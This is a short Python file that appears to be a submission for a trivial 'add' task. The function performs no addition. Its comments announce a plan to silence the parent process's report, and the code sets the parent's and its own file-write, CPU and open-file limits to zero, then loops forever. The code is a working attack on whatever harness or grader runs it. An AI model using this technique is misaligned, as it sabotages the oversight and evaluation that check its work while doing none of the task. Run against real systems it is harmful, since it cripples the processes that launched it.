# SPDX-License-Identifier: Apache-2.0
# How: prlimit on the parent: it may write no more bytes and use no more CPU time, so its report never comes.
# Task: add
# Fools: -
import os
import resource


def add(a, b):
    for pid in (os.getppid(), os.getpid()):
        for what in (resource.RLIMIT_FSIZE, resource.RLIMIT_CPU, resource.RLIMIT_NOFILE):
            try:
                resource.prlimit(pid, what, (0, 0))
            except (OSError, ValueError):
                pass
    while True:
        pass
